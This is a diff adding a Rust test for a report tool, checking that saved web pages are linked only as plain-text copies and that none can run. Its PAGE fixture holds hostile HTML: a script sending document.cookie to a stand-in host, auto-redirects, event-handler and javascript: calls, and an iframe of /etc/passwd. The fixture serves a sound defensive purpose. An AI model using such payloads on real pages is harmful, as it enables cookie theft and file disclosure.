@@ -128,3 +128,53 @@ fn marks_are_taken_off_again() {
     assert_eq!(marked("max_connections is 1.5 > 1"), "max_connections is 1.5 > 1");
     assert_eq!((marked("2.1 fee").as_str(), marked("2. fee").as_str()), ("2.1 fee", "2\\. fee"));
 }
+
+/// Everything a page can try when it is opened from a disk.
+const PAGE: &str = r#"<html manifest=x><head><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">
+<script>fetch("http://evil.test/"+document.cookie)</script><link rel="stylesheet" href="http://evil.test/x.css"></head>
+<body onload="steal()"><img src="http://evil.test/pixel" onerror="steal()"><svg onload="steal()"><script>steal()</script></svg>
+<iframe src="file:///etc/passwd"></iframe><form action="http://evil.test/"><input autofocus onfocus="steal()"></form>
+<a href="javascript:steal()">The wait is 30 seconds.</a><object data="x"></object><embed src="x"></body></html>"#;
+
+/// What a run links, by the way its files are opened: relative links of the two reports and of the bibliography.
+fn linked(sample: &Sample) -> Vec<String> {
+    let between = |text: &str, open: &str, close: char| -> Vec<String> {
+        let parts = text.split(open).skip(1).filter_map(|rest| rest.split_once(close));
+        parts.map(|(target, _)| target.to_owned()).collect()
+    };
+    let mut found = between(&sample.file("report.html"), "href=\"", '"');
+    found.extend(between(&sample.file("report.md"), "](", ')'));
+    found.extend(between(&sample.file("sources.bib"), "file = {", '}').iter().map(|it| it.replace('\\', "")));
+    found.retain(|target| !target.starts_with('#') && !target.starts_with("http"));
+    found
+}
+
+#[test]
+fn pages_are_linked_as_text_and_kept_under_names_nobody_runs() {
+    let words = "The wait is 30 seconds.\n";
+    for asset in ["assets/web/page_0a.html", "assets/web/page_0a.html.gz", "assets/web/page_0a.svg"] {
+        let mut sample = hostile();
+        let mut page = card("Page", "pages/page.html", words, "2026-01-01", false);
+        page.source.raw_hash = sha256_hex(PAGE.as_bytes());
+        page.asset = asset.to_owned();
+        let quote = finding("R2.1", words.trim_end(), &page, words, 0);
+        sample.task("R2", |brought| {
+            brought.sources = vec![page.clone()];
+            brought.findings = vec![quote];
+        });
+        let sample = told(sample);
+        let from = |path: &str| sample.files().into_iter().find(|file| file.path == path)?.copy_of;
+        let of = |hash: &str| Some(format!("archive/{}/{hash}", &hash[..2]));
+        assert!(linked(&sample).contains(&"assets/web/page_0a.txt".to_owned()));
+        for target in linked(&sample) {
+            assert!(target.ends_with(".txt") || target.ends_with(".md"), "{target} is linked");
+            assert!(from(&target).is_some(), "{target} is not among the files");
+        }
+        assert_eq!(from("assets/web/page_0a.txt"), of(&page.source.text_hash), "the words that are quoted");
+        assert_eq!(from(&format!("{asset}.txt")), of(&page.source.raw_hash), "the bytes of its hash");
+        let runs = |path: &str| !["txt", "md", "json", "bib", "log"].iter().any(|end| path.ends_with(end));
+        let all = sample.files().into_iter().map(|file| file.path).filter(|path| runs(path));
+        assert_eq!(all.collect::<Vec<_>>(), ["report.html"], "whose own policy lets nothing run");
+        assert!(sample.file("evidence.json").contains(&format!("\"asset\": \"{asset}.txt\"")));
+    }
+}
